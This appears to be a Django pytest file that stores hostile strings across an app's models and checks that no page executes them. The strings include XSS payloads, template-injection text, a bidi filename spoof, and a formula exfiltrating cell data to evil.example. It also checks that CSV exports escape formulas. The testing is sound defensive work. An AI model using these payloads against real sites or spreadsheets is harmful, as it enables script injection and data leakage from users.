"""Whatever customers, models and people store is shown as text: it runs nowhere, leads nowhere and breaks no page."""

import re
from dataclasses import asdict
from html.parser import HTMLParser

import pytest
from django.test import Client

from pipeline.models import Change, Comment, CompanyUrl, Fetch, Item, Snapshot, Story, Upload
from pipeline.reports.theme_map import draw_map
from pipeline.runs import uploads
from pipeline.runs.uploads import Look, Said
from pipeline.sources.searchable import renew_search_texts
from tests.pipeline.web.pages.scenes import address, client_of, read
from tests.support.factories import (
    NOON,
    ConversationFactory,
    ItemFactory,
    MergeFactory,
    OrphanFactory,
    RunFactory,
    SignatureFactory,
    StoryEvidenceFactory,
    StoryFactory,
    ThemeFactory,
    UserFactory,
    alice,
)
from tests.support.shelves import chapter_of_a_book, figure, watched_company

pytestmark = pytest.mark.django_db

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "attribute": '" onmouseover="alert(1)" x=\'',
    "link": "javascript:alert(1)",
    "image": "<img src=x onerror=alert(1)>",
    "template": "{{ request.user }}{% debug %}",
    "bidi": "safe \u202egnp.exe\u2066 text",
    "formula": '=HYPERLINK("http://evil.example/?"&A1)',
    "long": "w" * 20_000,
    "control": "bell \u0007 and \u2028 line",
    "markers": "\ue000<b>\ue001",
    "json": '"}}</script><script>alert(1)</script>',
}


class Looked(HTMLParser):
    """Collects what could do something: tags, event attributes, and where links lead."""

    def __init__(self) -> None:
        super().__init__()
        self.scripts: list[dict[str, str | None]] = []
        self.bad: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if tag == "script":
            self.scripts.append(values)
        if tag in ("iframe", "object", "embed", "base", "style"):
            self.bad.append(tag)
        for name, value in attrs:
            if name.startswith("on") or name == "style":
                self.bad.append(f"{tag} {name}")
            if name in ("href", "src", "action", "formaction") and re.match(
                r"\s*(javascript|data|vbscript):", value or ""
            ):
                self.bad.append(f"{tag} {name}={value}")


@pytest.fixture
def owner() -> Client:
    return client_of(alice())


def seen_as(text: str) -> Look:
    """Return a file as a worker recognised it, in which everything is the text."""
    message = {"role": text[:50], "text": text}
    sample = {"external_id": text, "customer": text, "occurred_at": "", "messages": [message], "more": 0}
    return Look(
        "file", text, format=text, encoding=text, fields={"text": text}, columns=[text], notes=[text], samples=[sample],
        conversations=1, rejected=1, reasons=[text],
    )  # fmt: skip


def store(text: str) -> dict[str, str]:
    """Store the text wherever somebody could, and return the pages that show it."""
    key = text[:200]
    conversation = ConversationFactory(
        text=text, customer=key, label=key, external_id=key, url=text[:2000], metadata={key: text, "plan": key},
        source__name=key,
    )  # fmt: skip
    run = RunFactory(
        source=conversation.source, state="completed_with_errors", error=text, attention=text, parameters={key: text},
        versions={key: text}, created_by=UserFactory(username=key[:150]),
    )  # fmt: skip
    signature = SignatureFactory(key=key, created_run=run)
    ItemFactory(run=run, state="failed", error=text, reason=key, error_class=key)
    theme = ThemeFactory(
        run=run,
        item__conversation=conversation,
        signature=signature,
        raw_signature=key,
        summary=text,
        category=key[:50],
    )
    MergeFactory(parent=signature, reason=text, rule="person", created_by=alice())
    story = StoryFactory(
        title=key, description=text, signature=signature, conversations=0, category=key[:50], ticket_url=text[:2000],
    )  # fmt: skip
    StoryEvidenceFactory(story=story, theme=theme)
    OrphanFactory(signature=SignatureFactory(key=f"x {key[:190]}"), detail=key, conversations=1, nearest_story=story,
                  nearest_cosine=0.9)  # fmt: skip
    Comment.objects.create(story=story, text=text, created_at=NOON, created_by=run.created_by)
    Change.objects.create(
        story=story, what="title", before={"title": text}, after={"title": key}, reason=text, created_at=NOON,
        created_by=run.created_by,
    )  # fmt: skip
    Upload.objects.create(
        name=key, size=1, created_at=NOON, created_by=alice(), run=run, imported=key,
        rejects=[{"line": 1, "unit": key, "reason": text, "raw": text}],
    )  # fmt: skip
    renew_search_texts(source=conversation.source)
    waiting = Upload.objects.create(
        name=key, size=10**9, created_at=NOON, created_by=alice(), state="failed", error=text,
        look=uploads._storable({"asked": asdict(Said()), "problem": "", "found": asdict(seen_as(text))}),
    )  # fmt: skip
    company = watched_company(
        key, before="As it was.", after=f"As it was.\n{text}", said=text, metadata={key: text}, override="unknown",
        override_reason=text, override_at=NOON, title=text[:300],
    )  # fmt: skip
    CompanyUrl.objects.filter(company=company).update(detail=text[:300], outcome="ok", checked_at=NOON)
    CompanyUrl.objects.filter(pk=company.urls.order_by("id")[0].pk).update(url=text[:2000])
    Fetch.objects.update(detail=text[:300], final_url=text[:2000])
    page, fetch = company.urls.order_by("id")[0], Fetch.objects.order_by("id")[1]
    chapter = chapter_of_a_book(1, book=text[:150], texts={"en": [text, text, text], "de": [text, text, text]})
    item = Item.objects.filter(conversation=chapter).order_by("-id")[0]
    figure(item, text, text, text[:50], text, text, ground=text, speaker=text, explanation=text, reason=text)
    draw_map(profile="support")
    return {
        "home": address("index"),
        "stories": address("stories"),
        "board": f"{address('stories')}?view=board",
        "story": address("story", story.pk),
        "all": f"{address('story', story.pk)}?all=1",
        "similar": address("story_similar", story.pk),
        "parts": address("story_parts", story.pk),
        "who": address("story_who", story.pk),
        "activity": address("story_activity", story.pk),
        "edit": address("story_edit", story.pk),
        "review": address("review"),
        "orphans": address("orphans"),
        "search": address("search"),
        "conversation": address("conversation", conversation.pk),
        "customers": address("customers"),
        "companies": address("companies"),
        "company": address("company", company.pk),
        "changes of companies": address("company_changes"),
        "page of a company": address("company_page", page.pk),
        "snapshot": address("company_snapshot", Snapshot.objects.order_by("-id")[0].pk),
        "change": address("company_change", fetch.pk),
        "book": address("book", chapter.source_id),
        "chapter": address("chapter", chapter.pk),
        "map": address("map"),
        "map by a key": f"{address('map')}?by=meta.plan",
        "point of the map": address("map_theme", theme.pk),
        "runs": address("runs"),
        "run": address("run", run.pk),
        "items": address("run_items", run.pk),
        "report": address("run_report", run.pk),
        "new run": address("new_run"),
        "upload": address("new_run_file", waiting.token),
        "schedules": address("schedules"),
    }


@pytest.mark.parametrize("kind", HOSTILE)
def test_stored_text_does_nothing_on_any_page(owner: Client, kind: str) -> None:
    text = HOSTILE[kind]
    pages = store(text)
    for name, where in pages.items():
        shown = read(owner, where)
        looked = Looked()
        looked.feed(shown)
        assert looked.bad == [], (kind, name)
        assert all(script.get("nonce") and script.get("src") for script in looked.scripts), (kind, name)
        assert "<img src=x" not in shown, (kind, name)
        assert "{{" not in shown.replace(text, "").replace("{{ request.user }}{% debug %}", ""), (kind, name)
    for where in (f"{address('search')}?q={text[:100]}", f"{address('customer')}?name={text[:100]}"):
        looked = Looked()
        looked.feed(read(owner, where))
        assert looked.bad == [], kind


def test_hostile_words_of_an_export_stay_words(owner: Client) -> None:
    store(HOSTILE["formula"])
    exported = owner.get(address("stories_export"), {"status": "all"}).getvalue().decode()
    assert "\n=HYPERLINK" not in exported
    assert ',"=HYPERLINK' not in exported
    assert "'=HYPERLINK" in exported
    assert Story.objects.exists()
